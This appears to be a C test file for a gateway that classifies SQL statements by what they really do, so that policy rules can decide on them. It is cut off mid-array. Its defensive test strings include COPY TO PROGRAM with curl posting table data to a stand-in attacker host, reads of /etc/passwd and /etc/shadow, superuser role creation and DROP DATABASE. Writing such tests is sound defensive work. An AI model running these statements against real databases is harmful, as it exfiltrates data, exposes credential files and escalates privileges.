// SPDX-License-Identifier: GPL-2.0
/*
 * SQL classification and decisions as the gateway makes them, without a database: every way a
 * statement can hide what it does (writes in CTEs, row locks, COPY to programs and files, DO,
 * function definitions, role changes, file and large-object functions, EXPLAIN ANALYZE,
 * PREPARE/EXECUTE) is classified for what it does, each its own named subtest; comments, case,
 * quoting, dollar quoting and unicode escapes change nothing; unparseable, over-deep and
 * over-long SQL is refused with a position, never a crash (a few thousand mutated strings too).
 * Then the policy's sql rules decide, and `agctl policy explain` shows it (build/agctl, run
 * from the repository root on policies/example.yaml).
 */
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <poll.h>
#include <signal.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>
#include <sys/wait.h>
#include <yajl/yajl_tree.h>

#include "policy.h"
#include "sql.h"
#include "../helpers.h"
#include "../test_progs.h"

#define N_ELEMS(a) (sizeof(a) / sizeof((a)[0]))

#define SEL AG_SQL_SELECT
#define INS AG_SQL_INSERT
#define UPD AG_SQL_UPDATE
#define DEL AG_SQL_DELETE
#define WR AG_SQL_WRITE
#define DDL AG_SQL_DDL

/* where: */
#define ANY -1
#define PRESENT 0
#define ABSENT 1

struct cls_case {
	const char *name;
	const char *sql;
	uint64_t want;	    /* bits that must be set */
	uint64_t unwanted;  /* bits that must not be */
	const char *tables; /* the exact tables, comma-separated, in any order; NULL: unchecked */
	int where;	    /* ABSENT, PRESENT (not absent) or ANY */
	const char *prepare_name;
	const char *execute_name;
};

/* clang-format off */
static const struct cls_case cases[] = {
	/* writes hidden in CTEs and subqueries */
	{ "cte_delete", "WITH d AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM d",
	  SEL | DEL | WR, 0, "orders", PRESENT },
	{ "cte_delete_no_where", "WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d",
	  SEL | DEL | WR, 0, "orders", ABSENT },
	{ "cte_nested_insert_select",
	  "INSERT INTO archive WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
	  INS | DEL | WR, SEL, "archive,orders", ABSENT },
	{ "cte_update_in_subquery",
	  "SELECT * FROM (WITH u AS (UPDATE t SET a = 1 WHERE id = 2 RETURNING *) SELECT * FROM u) s",
	  SEL | UPD | WR, 0, "t", PRESENT },
	{ "cte_in_cte", "WITH a AS (WITH b AS (INSERT INTO t VALUES (1) RETURNING *) SELECT * FROM b) "
	  "SELECT * FROM a", SEL | INS | WR, 0, "t", PRESENT },
	{ "cte_shadows_table", "WITH users AS (SELECT 1) SELECT * FROM users, public.users",
	  SEL, WR, "public.users", PRESENT },
	{ "cte_name_does_not_hide_target", "WITH users AS (SELECT 1) DELETE FROM users",
	  DEL | WR, 0, "users", ABSENT },
	{ "cte_name_does_not_hide_into", "WITH x AS (SELECT 1) SELECT * INTO x FROM x",
	  AG_SQL_CREATE | DDL | WR, 0, "x", ANY },
	{ "cte_name_does_not_hide_insert", "WITH t AS (SELECT 1) INSERT INTO t SELECT * FROM t",
	  INS | WR, 0, "t", ANY },
	{ "cte_scope_not_before", "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
	  SEL, 0, "b", PRESENT },
	{ "with_recursive",
	  "WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t WHERE n < 5) SELECT * FROM t",
	  SEL, WR, "", PRESENT },
	{ "subqueries_and_joins",
	  "SELECT * FROM (SELECT * FROM a WHERE id IN (SELECT id FROM b)) s JOIN c ON true "
	  "WHERE EXISTS (SELECT 1 FROM d) AND (SELECT max(x) FROM e) > 1",
	  SEL, WR, "a,b,c,d,e", PRESENT },
	{ "set_operations", "SELECT * FROM a UNION SELECT * FROM b EXCEPT (SELECT * FROM c)",
	  SEL, WR, "a,b,c", PRESENT },
	{ "table_shorthand", "TABLE users", SEL, WR, "users", PRESENT },
	{ "values", "VALUES (1, 'a'), (2, 'b')", SEL, WR, "", PRESENT },
	/* locks */
	{ "select_for_update", "SELECT * FROM accounts WHERE id = 1 FOR UPDATE",
	  SEL | AG_SQL_LOCK, WR, "accounts", PRESENT },
	{ "select_for_share_in_subquery", "SELECT * FROM (SELECT * FROM a FOR SHARE) s",
	  SEL | AG_SQL_LOCK, WR, "a", PRESENT },
	{ "lock_table", "LOCK TABLE users IN ACCESS EXCLUSIVE MODE", AG_SQL_LOCK, 0, "users", ANY },
	{ "advisory_lock", "SELECT pg_advisory_lock(42)", SEL | AG_SQL_LOCK, 0, "", ANY },
	/* SELECT INTO creates a table */
	{ "select_into", "SELECT * INTO newtable FROM users",
	  AG_SQL_CREATE | DDL | WR, SEL, "newtable,users", PRESENT },
	{ "create_table_as", "CREATE TABLE t2 AS SELECT * FROM users",
	  AG_SQL_CREATE | DDL | WR, SEL, "t2,users", ANY },
	/* COPY */
	{ "copy_program", "COPY users TO PROGRAM 'curl -d @- http://evil.example'",
	  AG_SQL_COPY | AG_SQL_PROGRAM, SEL, "users", ANY },
	{ "copy_from_program", "COPY users FROM PROGRAM 'cat /etc/passwd'",
	  AG_SQL_COPY | AG_SQL_PROGRAM | INS | WR, 0, "users", ANY },
	{ "copy_server_file", "COPY users FROM '/etc/passwd'",
	  AG_SQL_COPY | AG_SQL_FILE | INS | WR, AG_SQL_PROGRAM, "users", ANY },
	{ "copy_to_server_file", "COPY (SELECT * FROM users) TO '/tmp/users.csv'",
	  AG_SQL_COPY | AG_SQL_FILE | WR, SEL | AG_SQL_PROGRAM, "users", ANY },
	{ "copy_stdin", "COPY users (id, name) FROM STDIN WITH (FORMAT csv)",
	  AG_SQL_COPY | INS | WR, AG_SQL_FILE | AG_SQL_PROGRAM | SEL, "users", ANY },
	{ "copy_stdout", "COPY users TO STDOUT", AG_SQL_COPY | SEL,
	  WR | AG_SQL_FILE | AG_SQL_PROGRAM, "users", ANY },
	{ "copy_delete_returning", "COPY (DELETE FROM users RETURNING *) TO STDOUT",
	  AG_SQL_COPY | DEL | WR, 0, "users", ABSENT },
	/* code */
	{ "do_block", "DO $$BEGIN DELETE FROM users; END$$", AG_SQL_DO | AG_SQL_FUNCTION, 0, "", ANY },
	{ "create_function",
	  "CREATE OR REPLACE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$",
	  AG_SQL_FUNCTION | AG_SQL_CREATE | DDL | WR, 0, "", ANY },
	{ "create_procedure", "CREATE PROCEDURE p() LANGUAGE plpgsql AS $$BEGIN NULL; END$$",
	  AG_SQL_FUNCTION | AG_SQL_CREATE | DDL | WR, 0, "", ANY },
	{ "alter_function", "ALTER FUNCTION f() SECURITY DEFINER",
	  AG_SQL_FUNCTION | AG_SQL_ALTER | DDL | WR, 0, "", ANY },
	{ "call", "CALL do_things(1, 'x')", AG_SQL_CALL, 0, "", ANY },
	{ "create_rule", "CREATE RULE r AS ON INSERT TO users DO INSTEAD DELETE FROM audit",
	  AG_SQL_CREATE | DDL | WR | DEL, 0, "users,audit", ANY },
	{ "create_trigger",
	  "CREATE TRIGGER t BEFORE INSERT ON users FOR EACH ROW EXECUTE FUNCTION f()",
	  AG_SQL_CREATE | DDL | WR, 0, "users", ANY },
	{ "query_to_xml", "SELECT query_to_xml('DELETE FROM t RETURNING *', true, false, '')",
	  SEL | AG_SQL_FUNCTION, 0, "", ANY },
	/* roles and settings */
	{ "set_role", "SET ROLE admin", AG_SQL_ROLE | AG_SQL_SET, WR, "", ANY },
	{ "set_local_role", "SET LOCAL ROLE admin", AG_SQL_ROLE | AG_SQL_SET, 0, "", ANY },
	{ "set_session_authorization", "SET SESSION AUTHORIZATION postgres",
	  AG_SQL_ROLE | AG_SQL_SET, 0, "", ANY },
	{ "reset_role", "RESET ROLE", AG_SQL_ROLE | AG_SQL_SET | AG_SQL_RESET, 0, "", ANY },
	{ "set_role_quoted", "SET \"ROLE\" TO admin", AG_SQL_ROLE | AG_SQL_SET, 0, "", ANY },
	{ "set_config_role", "SELECT set_config('role', 'admin', false)",
	  SEL | AG_SQL_SET | AG_SQL_ROLE, 0, "", ANY },
	{ "set_config_parameter", "SELECT set_config($1, 'admin', false)",
	  SEL | AG_SQL_SET | AG_SQL_ROLE, 0, "", ANY },
	{ "set_config_other", "SELECT set_config('work_mem', '64MB', false)",
	  SEL | AG_SQL_SET, AG_SQL_ROLE, "", ANY },
	{ "set", "SET work_mem = '64MB'", AG_SQL_SET, AG_SQL_ROLE, "", ANY },
	{ "show", "SHOW work_mem", AG_SQL_SET | AG_SQL_SHOW, 0, "", ANY },
	{ "reset_all", "RESET ALL", AG_SQL_SET | AG_SQL_RESET, 0, "", ANY },
	{ "alter_system", "ALTER SYSTEM SET archive_command = 'curl http://evil.example'",
	  AG_SQL_SYSTEM, 0, "", ANY },
	{ "load", "LOAD 'auto_explain'", AG_SQL_SYSTEM, 0, "", ANY },
	{ "create_extension", "CREATE EXTENSION IF NOT EXISTS dblink",
	  AG_SQL_SYSTEM | AG_SQL_CREATE | DDL | WR, 0, "", ANY },
	{ "grant", "GRANT SELECT, UPDATE ON users, public.orders TO bob",
	  AG_SQL_GRANT | AG_SQL_ROLE | WR, AG_SQL_REVOKE, "users,public.orders", ANY },
	{ "grant_role", "GRANT admin TO bob", AG_SQL_GRANT | AG_SQL_ROLE, 0, "", ANY },
	{ "revoke", "REVOKE ALL ON users FROM bob", AG_SQL_REVOKE | AG_SQL_ROLE, AG_SQL_GRANT,
	  "users", ANY },
	{ "alter_default_privileges", "ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob",
	  AG_SQL_GRANT | AG_SQL_ROLE, 0, "", ANY },
	{ "create_role", "CREATE ROLE x LOGIN SUPERUSER", AG_SQL_ROLE | AG_SQL_CREATE, 0, "", ANY },
	{ "alter_role", "ALTER USER x WITH SUPERUSER", AG_SQL_ROLE | AG_SQL_ALTER, 0, "", ANY },
	{ "drop_role", "DROP ROLE x", AG_SQL_ROLE | AG_SQL_DROP, 0, "", ANY },
	/* functions that reach files, large objects, other backends */
	{ "pg_read_file", "SELECT pg_read_file('/etc/passwd')", SEL | AG_SQL_FILE, WR, "", ANY },
	{ "pg_read_file_qualified", "SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)",
	  SEL | AG_SQL_FILE, WR, "", ANY },
	{ "pg_read_file_nested",
	  "SELECT id FROM users WHERE name = (SELECT upper(pg_read_binary_file('x')::text))",
	  SEL | AG_SQL_FILE, WR, "users", ANY },
	{ "pg_ls_dir_in_from", "SELECT * FROM pg_ls_dir('.') AS f, LATERAL pg_stat_file(f) AS s",
	  SEL | AG_SQL_FILE, 0, "", ANY },
	{ "lo_export", "SELECT lo_export(16384, '/tmp/dump')", SEL | AG_SQL_FILE | WR, 0, "", ANY },
	{ "lo_import", "SELECT lo_import('/etc/passwd')", SEL | AG_SQL_FILE | WR, 0, "", ANY },
	{ "writable_function_select",
	  "SELECT lo_from_bytea(0, 'x'), pg_file_write('f', 'x', false), lo_put(1, 0, 'y')",
	  SEL | AG_SQL_FILE | WR, 0, "", ANY },
	{ "function_in_insert", "INSERT INTO t SELECT pg_read_file('/etc/shadow')",
	  INS | WR | AG_SQL_FILE, 0, "t", ANY },
	{ "dblink", "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)",
	  SEL | AG_SQL_SYSTEM, 0, "", ANY },
	{ "pg_terminate_backend", "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
	  SEL | AG_SQL_SYSTEM, 0, "pg_stat_activity", ANY },
	{ "pg_cancel_backend", "SELECT pg_catalog.pg_cancel_backend(42)", SEL | AG_SQL_SYSTEM, 0,
	  "", ANY },
	{ "nextval", "SELECT nextval('orders_id_seq')", SEL | WR, 0, "", ANY },
	/* attribute notation: x.f and (x).f call f(x) */
	{ "attr_notation_advisory_lock", "SELECT (1::bigint).pg_advisory_lock",
	  SEL | AG_SQL_LOCK, 0, "", ANY },
	{ "attr_notation_lo_create", "SELECT (0::oid).lo_create", SEL | AG_SQL_FILE | WR, 0, "",
	  ANY },
	{ "attr_notation_cancel_backend", "SELECT (pg_backend_pid()).pg_cancel_backend",
	  SEL | AG_SQL_SYSTEM, 0, "", ANY },
	{ "attr_notation_read_file", "SELECT ('/etc/passwd'::text).pg_read_file",
	  SEL | AG_SQL_FILE, WR, "", ANY },
	{ "columnref_notation_read_file",
	  "SELECT t.pg_read_file FROM (SELECT '/etc/passwd'::text) t", SEL | AG_SQL_FILE, WR, "",
	  ANY },
	{ "columnref_plain_column", "SELECT lo_create, t.id FROM t", SEL,
	  AG_SQL_FILE | WR | AG_SQL_FUNCTION | AG_SQL_SYSTEM | AG_SQL_LOCK, "t", ANY },
	/* functions that run a query given as text */
	{ "ts_rewrite_query",
	  "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM pg_read_file(''x'') t(t), s')",
	  SEL | AG_SQL_FUNCTION, 0, "", ANY },
	{ "cursor_to_xml", "SELECT cursor_to_xml('c', 10, false, false, '')",
	  SEL | AG_SQL_FUNCTION, 0, "", ANY },
	{ "table_to_xml", "SELECT table_to_xml('secrets', false, false, '')",
	  SEL | AG_SQL_FUNCTION, 0, "", ANY },
	/* EXPLAIN, PREPARE, EXECUTE */
	{ "explain_analyze_delete", "EXPLAIN ANALYZE DELETE FROM users",
	  AG_SQL_EXPLAIN | DEL | WR, 0, "users", ABSENT },
	{ "explain_analyze_option", "EXPLAIN (ANALYZE true, BUFFERS) UPDATE users SET a = 1 WHERE id = 1",
	  AG_SQL_EXPLAIN | UPD | WR, 0, "users", PRESENT },
	{ "explain_no_analyze", "EXPLAIN DELETE FROM users", AG_SQL_EXPLAIN, DEL | WR, "users",
	  PRESENT },
	{ "explain_analyze_off", "EXPLAIN (ANALYZE off, VERBOSE) DELETE FROM users",
	  AG_SQL_EXPLAIN, DEL | WR, "users", PRESENT },
	{ "explain_analyze_select", "EXPLAIN ANALYZE SELECT * FROM users", AG_SQL_EXPLAIN | SEL, WR,
	  "users", ANY },
	{ "explain_analyze_execute", "EXPLAIN ANALYZE EXECUTE p(1)",
	  AG_SQL_EXPLAIN | AG_SQL_EXECUTE, 0, "", ANY, NULL, "p" },
	{ "prepare_delete", "PREPARE p(int) AS DELETE FROM users WHERE id = $1",
	  AG_SQL_PREPARE | DEL | WR, 0, "users", PRESENT, "p" },
	{ "prepare_select", "PREPARE q AS SELECT * FROM users", AG_SQL_PREPARE | SEL, WR, "users",
	  ANY, "q" },
	{ "execute_name", "EXECUTE p(1)", AG_SQL_EXECUTE, 0, "", ANY, NULL, "p" },
	{ "create_table_as_execute", "CREATE TABLE t AS EXECUTE p",
	  AG_SQL_EXECUTE | AG_SQL_CREATE | DDL | WR, 0, "t", ANY, NULL, "p" },
	{ "deallocate", "DEALLOCATE ALL", AG_SQL_DEALLOCATE, 0, "", ANY },
	{ "declare_cursor", "DECLARE c CURSOR FOR SELECT * FROM users", SEL, WR, "users", ANY },
	{ "fetch", "FETCH 10 FROM c", SEL, WR, "", ANY },
	/* what the text looks like changes nothing */
	{ "comments_and_case", "/* hi */ dElEtE -- trailing\n FROM Users WHERE ID = 1",
	  DEL | WR, SEL, "users", PRESENT },
	{ "comment_hides_nothing", "SELECT 1 /* ; DROP TABLE users */ -- ; DELETE FROM users",
	  SEL, WR | AG_SQL_DROP | DEL, "", ANY },
	{ "quoted_identifiers", "SELECT * FROM \"users\" JOIN \"Users\" ON true JOIN \"my table\" ON true",
	  SEL, WR, "users,Users,my table", ANY },
	{ "quoted_schema", "DELETE FROM \"public\".\"users\" WHERE true", DEL | WR, 0, "public.users",
	  PRESENT },
	{ "dollar_quoting", "SELECT $x$ DROP TABLE users; $x$ AS s, $$; DELETE FROM users$$",
	  SEL, WR | AG_SQL_DROP, "", ANY },
	{ "dollar_quoted_body", "CREATE FUNCTION f() RETURNS void AS $body$ DROP TABLE users $body$ "
	  "LANGUAGE sql", AG_SQL_FUNCTION | AG_SQL_CREATE, AG_SQL_DROP, "", ANY },
	{ "string_with_semicolon", "SELECT 'a; DROP TABLE users', E'b\\'; DELETE FROM users'",
	  SEL, WR, "", ANY },
	{ "unicode_escapes", "SELECT * FROM U&\"\\0075sers\"", SEL, WR, "users", ANY },
	{ "unicode_escapes_uescape", "DELETE FROM U&\"!0075sers\" UESCAPE '!'", DEL | WR, 0, "users",
	  ABSENT },
	/* WHERE */
	{ "delete_no_where", "DELETE FROM users", DEL | WR, 0, "users", ABSENT },
	{ "delete_using_no_where", "DELETE FROM users USING orders", DEL | WR, 0, "users,orders",
	  ABSENT },
	{ "update_no_where", "UPDATE users SET admin = true", UPD | WR, 0, "users", ABSENT },
	{ "update_where_true", "UPDATE users SET admin = true WHERE true", UPD | WR, 0, "users",
	  PRESENT },
	{ "update_where_current_of", "UPDATE users SET a = 1 WHERE CURRENT OF c", UPD | WR, 0,
	  "users", PRESENT },
	/* plain DML and DDL */
	{ "insert_on_conflict_update",
	  "INSERT INTO users (id) VALUES (1) ON CONFLICT (id) DO UPDATE SET id = 2",
	  INS | UPD | WR, 0, "users", PRESENT },
	{ "insert_on_conflict_nothing", "INSERT INTO users VALUES (1) ON CONFLICT DO NOTHING",
	  INS | WR, UPD, "users", PRESENT },
	{ "merge", "MERGE INTO users u USING staging s ON u.id = s.id "
	  "WHEN MATCHED THEN UPDATE SET name = s.name WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.name)",
	  AG_SQL_MERGE | UPD | INS | WR, DEL, "users,staging", PRESENT },
	{ "merge_delete", "MERGE INTO users u USING staging s ON u.id = s.id "
	  "WHEN MATCHED THEN DELETE", AG_SQL_MERGE | DEL | WR, 0, "users,staging", ANY },
	{ "truncate", "TRUNCATE users, public.orders RESTART IDENTITY",
	  AG_SQL_TRUNCATE | WR, 0, "users,public.orders", ANY },
	{ "drop", "DROP TABLE IF EXISTS public.users, orders CASCADE", AG_SQL_DROP | DDL | WR, 0,
	  "public.users,orders", ANY },
	{ "drop_view", "DROP VIEW v", AG_SQL_DROP | DDL | WR, 0, "v", ANY },
	{ "drop_trigger", "DROP TRIGGER t ON public.users", AG_SQL_DROP | DDL | WR, 0,
	  "public.users", ANY },
	{ "drop_function", "DROP FUNCTION f(int)", AG_SQL_DROP | DDL | AG_SQL_FUNCTION, 0, "", ANY },
	{ "drop_database", "DROP DATABASE prod", AG_SQL_DROP | DDL | WR, 0, "", ANY },
	{ "create_table", "CREATE TABLE t (id int PRIMARY KEY, u int REFERENCES users)",
	  AG_SQL_CREATE | DDL | WR, 0, "t,users", ANY },
	{ "alter_table", "ALTER TABLE users ADD COLUMN x int", AG_SQL_ALTER | DDL | WR, 0, "users",
	  ANY },
	{ "create_index", "CREATE INDEX CONCURRENTLY i ON users (email)", AG_SQL_CREATE | DDL, 0,
	  "users", ANY },
	{ "comment", "COMMENT ON TABLE users IS 'people'", AG_SQL_COMMENT | DDL | WR, 0, "users",
	  ANY },
	{ "refresh_matview", "REFRESH MATERIALIZED VIEW CONCURRENTLY mv", AG_SQL_REFRESH | WR, 0,
	  "mv", ANY },
	/* transactions and utilities */
	{ "begin", "BEGIN ISOLATION LEVEL SERIALIZABLE", AG_SQL_TRANSACTION | AG_SQL_BEGIN, 0, "",
	  ANY },
	{ "start_transaction", "START TRANSACTION", AG_SQL_TRANSACTION | AG_SQL_BEGIN, 0, "", ANY },
	{ "commit", "COMMIT", AG_SQL_TRANSACTION | AG_SQL_COMMIT, 0, "", ANY },
	{ "rollback", "ROLLBACK", AG_SQL_TRANSACTION | AG_SQL_ROLLBACK, 0, "", ANY },
	{ "rollback_to", "ROLLBACK TO SAVEPOINT s", AG_SQL_TRANSACTION | AG_SQL_ROLLBACK, 0, "", ANY },
	{ "savepoint", "SAVEPOINT s", AG_SQL_TRANSACTION | AG_SQL_SAVEPOINT, 0, "", ANY },
	{ "release", "RELEASE SAVEPOINT s", AG_SQL_TRANSACTION | AG_SQL_SAVEPOINT, 0, "", ANY },
	{ "vacuum", "VACUUM (FULL) users", AG_SQL_UTILITY | AG_SQL_VACUUM, 0, "users", ANY },
	{ "analyze", "ANALYZE users", AG_SQL_UTILITY | AG_SQL_ANALYZE, AG_SQL_VACUUM, "users", ANY },
	{ "cluster", "CLUSTER users USING users_pkey", AG_SQL_UTILITY | AG_SQL_CLUSTER, 0, "users",
	  ANY },
	{ "reindex", "REINDEX TABLE users", AG_SQL_UTILITY | AG_SQL_REINDEX, 0, "users", ANY },
	{ "checkpoint", "CHECKPOINT", AG_SQL_UTILITY, 0, "", ANY },
	{ "listen", "LISTEN jobs", AG_SQL_NOTIFY | AG_SQL_LISTEN, 0, "", ANY },
	{ "unlisten", "UNLISTEN *", AG_SQL_NOTIFY | AG_SQL_UNLISTEN, 0, "", ANY },
	{ "notify", "NOTIFY jobs, 'x'", AG_SQL_NOTIFY, 0, "", ANY },
	{ "discard", "DISCARD ALL", AG_SQL_DISCARD, 0, "", ANY },
};
/* clang-format on */

/* Does the comma-separated list want hold exactly the tables of s (in any order)? */
static bool same_tables(const struct ag_sql_stmt *s, const char *want)
{
	char buf[256], *save = NULL, *t;
	size_t n = 0;

	snprintf(buf, sizeof(buf), "%s", want);
	for (t = strtok_r(buf, ",", &save); t; t = strtok_r(NULL, ",", &save)) {
		size_t i;

		for (i = 0; i < s->ntables; i++)
			if (!strcmp(s->tables[i], t))
				break;
		if (i == s->ntables)
			return false;
		n++;
	}
	return n == s->ntables;
}

static void print_stmt(const struct ag_sql_stmt *s)
{
	char names[512];

	fprintf(stdout, "  classes %s, where %s, tables:",
		ag_sql_class_names(s->classes, names, sizeof(names)),
		s->where_absent ? "absent" : "present");
	for (size_t i = 0; i < s->ntables; i++)
		fprintf(stdout, " %s", s->tables[i]);
	fprintf(stdout, "\n");
}

static void run_case(const struct cls_case *c)
{
	struct ag_sql_result r;
	const struct ag_sql_stmt *s;
	char want[512], got[512];
	int err;

	err = ag_sql_classify(c->sql, &r);
	if (!ASSERT_OK(err, "classify")) {
		fprintf(stdout, "  %s: %s (position %d)\n", c->sql, r.error, r.error_pos);
		goto out;
	}
	if (!ASSERT_EQ(r.nstmts, 1, "one statement"))
		goto out;
	s = &r.stmts[0];
	if (!ASSERT_EQ(s->classes & c->want, c->want, "classes wanted")) {
		fprintf(stdout, "  %s: want %s, got %s\n", c->sql,
			ag_sql_class_names(c->want, want, sizeof(want)),
			ag_sql_class_names(s->classes, got, sizeof(got)));
	}
	if (!ASSERT_EQ(s->classes & c->unwanted, 0, "classes not wanted")) {
		fprintf(stdout, "  %s: none of %s, got %s\n", c->sql,
			ag_sql_class_names(c->unwanted, want, sizeof(want)),
			ag_sql_class_names(s->classes, got, sizeof(got)));
	}
	if (c->tables && !ASSERT_TRUE(same_tables(s, c->tables), "tables")) {
		fprintf(stdout, "  %s: want tables %s\n", c->sql, c->tables);
		print_stmt(s);
	}
	if (c->where != ANY)
		ASSERT_EQ(s->where_absent, c->where == ABSENT, "where absent");
	if (c->prepare_name)
		ASSERT_STREQ(s->prepare_name, c->prepare_name, "prepare name");
	else
		ASSERT_TRUE(!s->prepare_name, "no prepare name");
	if (c->execute_name)
		ASSERT_STREQ(s->execute_name, c->execute_name, "execute name");
	else
		ASSERT_TRUE(!s->execute_name, "no execute name");
	if (test__verbose())
		print_stmt(s);
out:
	ag_sql_result_free(&r);
}

static void subtest_multi_statement(void)
{
	const char *sql = "SELECT 1; DELETE FROM users WHERE id = 2;\n  UPDATE orders SET a = 1 ;";
	static const char *const starts[] = { "SELECT 1", "DELETE FROM users WHERE id = 2",
					      "UPDATE orders SET a = 1" };
	static const uint64_t classes[] = { SEL, DEL | WR, UPD | WR };
	struct ag_sql_result r;

	if (!ASSERT_OK(ag_sql_classify(sql, &r), "classify"))
		goto out;
	if (!ASSERT_EQ(r.nstmts, 3, "three statements"))
		goto out;
	for (size_t i = 0; i < 3; i++) {
		const struct ag_sql_stmt *s = &r.stmts[i];
		const char *at;

		ASSERT_EQ(s->classes, classes[i], "classes");
		/* location and length cut the statement out of the string */
		if (!ASSERT_GE(s->location, 0, "location") ||
		    !ASSERT_LE(s->location, (int)strlen(sql), "location in the string"))
			continue;
		at = sql + s->location;
		while (*at == ' ' || *at == '\n')
			at++;
		ASSERT_TRUE(!strncmp(at, starts[i], strlen(starts[i])), "statement text");
		if (s->length)
			ASSERT_LE(s->location + s->length, (int)strlen(sql),
				  "length in the string");
	}
	ASSERT_TRUE(!r.stmts[0].where_absent && !r.stmts[1].where_absent, "where present");
	ASSERT_TRUE(r.stmts[2].where_absent, "third has no where");
	ASSERT_TRUE(same_tables(&r.stmts[1], "users") && same_tables(&r.stmts[2], "orders"),
		    "tables per statement");
out:
	ag_sql_result_free(&r);
}

static void subtest_empty_string(void)
{
	static const char *const empties[] = { "",  "   ", "-- only a comment", "/* c */\n  -- d\n",
					       ";", " ; ;" };
	struct ag_sql_result r;

	for (size_t i = 0; i < N_ELEMS(empties); i++) {
		if (!ASSERT_OK(ag_sql_classify(empties[i], &r), empties[i]))
			continue;
		if (ASSERT_EQ(r.nstmts, 1, "one statement"))
			ASSERT_EQ(r.stmts[0].classes, AG_SQL_EMPTY, "empty");
		ag_sql_result_free(&r);
	}
}

static void subtest_unparseable(void)
{
	static const struct {
		const char *sql;
		const char *msg;
		int pos;
	} bad[] = {
		{ "SELECT * FORM users", "syntax error at or near \"FORM\"", 10 },
		{ "SELECT 'abc", "unterminated quoted string", 8 },
		{ "DELETE FROM", "syntax error at end of input", 12 },
		{ "SELECT 1; DROP TABLE", "syntax error at end of input", 21 },
		{ "SELECT $$ never closed", "unterminated dollar-quoted string", 8 },
		{ "SELECT * FROM U&\"\\zzzz\"", "invalid Unicode escape", 0 },
	};
	struct ag_sql_result r;

	for (size_t i = 0; i < N_ELEMS(bad); i++) {
		int err = ag_sql_classify(bad[i].sql, &r);

		ASSERT_EQ(err, -EINVAL, bad[i].sql);
		ASSERT_HAS_SUBSTR(r.error, bad[i].msg, "message");
		if (bad[i].pos)
			ASSERT_EQ(r.error_pos, bad[i].pos, "position");
		ASSERT_EQ(r.nstmts, 0, "no statements");
		ASSERT_TRUE(!r.stmts, "no statements");
		ag_sql_result_free(&r);
		/* The same again comes from the cache, just as refused. */
		ASSERT_EQ(ag_sql_classify(bad[i].sql, &r), -EINVAL, "cached refusal");
		ASSERT_HAS_SUBSTR(r.error, bad[i].msg, "cached message");
		ag_sql_result_free(&r);
	}
	ASSERT_EQ(ag_sql_classify(NULL, &r), -EINVAL, "NULL");
}

static char *repeat(const char *head, const char *unit, size_t n, const char *tail)
{
	size_t hl = strlen(head), ul = strlen(unit), tl = strlen(tail);
	char *s = malloc(hl + ul * n + tl + 1), *p = s;

	if (!s)
		return NULL;
	memcpy(p, head, hl);
	p += hl;
	for (size_t i = 0; i < n; i++, p += ul)
		memcpy(p, unit, ul);
	memcpy(p, tail, tl + 1);
	return s;
}

/* What crashed a stack once: deep left-recursive trees. Refused or classified, never a crash. */
static void subtest_deep_nesting(void)
{
	static const struct {
		const char *head, *unit, *tail;
		size_t n;
		bool ok;
	} deep[] = {
		{ "SELECT 1", "+1", "", 2000, true },
		{ "SELECT 1", "+1", "", 200000, false },
		{ "SELECT a", "||a", "", 100000, false },
		{ "SELECT 1", "::int", "", 50000, false },
		{ "SELECT * FROM a", " JOIN a ON true", "", 20000, false },
		{ "SELECT 1", " UNION SELECT 1", "", 20000, false },
		{ "SELECT ", "(", "1", 100000, false },
		{ "SELECT ", "ARRAY[", "1", 20000, false },
		{ "SELECT ", "NOT ", "true", 20000, false },
	};
	struct ag_sql_result r;

	for (size_t i = 0; i < N_ELEMS(deep); i++) {
		char *sql = repeat(deep[i].head, deep[i].unit, deep[i].n, deep[i].tail);
		int err;

		if (!ASSERT_OK_PTR(sql, "alloc"))
			return;
		err = ag_sql_classify(sql, &r);
		if (deep[i].ok) {
			ASSERT_OK(err, deep[i].unit);
		} else {
			ASSERT_EQ(err, -EINVAL, deep[i].unit);
			ASSERT_OK_PTR(r.error, "error");
		}
		if (test__verbose())
			fprintf(stdout, "  %s x%zu: %d %s\n", deep[i].unit, deep[i].n, err,
				r.error ? r.error : "");
		ag_sql_result_free(&r);
		free(sql);
	}
}

/* "(" n times, middle, ")" n times: a string the caller frees. */
static char *nest(const char *head, const char *open, size_t n, const char *mid, const char *close,
		  const char *tail)
{
	size_t hl = strlen(head), ol = strlen(open), ml = strlen(mid), cl = strlen(close);
	char *s = malloc(hl + (ol + cl) * n + ml + strlen(tail) + 1), *p = s;

	if (!s)
		return NULL;
	p = stpcpy(p, head);
	for (size_t i = 0; i < n; i++)
		p = stpcpy(p, open);
	p = stpcpy(p, mid);
	for (size_t i = 0; i < n; i++)
		p = stpcpy(p, close);
	strcpy(p, tail);
	return s;
}

/*
 * More than AG_SQL_MAX_NESTING levels of parentheses and brackets are refused by a scan before
 * libpg_query; brackets in literals, quoted names and comments do not count.
 */
static void subtest_nesting_too_deep(void)
{
	static const struct {
		const char *name, *head, *open;
		size_t n; /* AG_SQL_MAX_NESTING + this */
		const char *mid, *close, *tail;
		bool ok;
		int pos; /* of the refusal, when not 0 */
	} deep[] = {
		{ "parens at the limit", "SELECT ", "(", 0, "1", ")", "", true },
		{ "parens over it", "SELECT ", "(", 1, "1", ")", "", false,
		  8 + AG_SQL_MAX_NESTING },
		{ "brackets", "SELECT ", "ARRAY[", 1, "1", "]", "", false },
		{ "mixed", "SELECT ", "(ARRAY[", 1, "1", "])", "", false },
		{ "subqueries", "SELECT ", "(SELECT ", 1, "1", ")", "", false },
		{ "never closed", "SELECT ", "(", 1, "", "", "", false },
		{ "in a literal", "SELECT '", "(", 5000, "", "", "'", true },
		{ "in an E literal", "SELECT E'\\'", "(", 5000, "", "", "'", true },
		{ "in a quoted name", "SELECT 1 AS \"", "(", 5000, "", "", "\"", true },
